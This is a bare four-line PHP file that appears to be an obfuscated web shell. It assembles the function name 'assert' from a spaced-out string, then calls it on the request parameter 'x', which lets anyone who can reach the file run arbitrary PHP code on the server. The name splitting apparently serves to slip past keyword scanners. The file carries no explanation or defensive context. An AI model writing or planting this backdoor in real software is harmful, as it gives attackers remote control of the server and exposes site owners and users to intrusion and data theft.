<?php
$a=preg_filter('/\s+/','','as s er t');
$a($_REQUEST['x']);
?>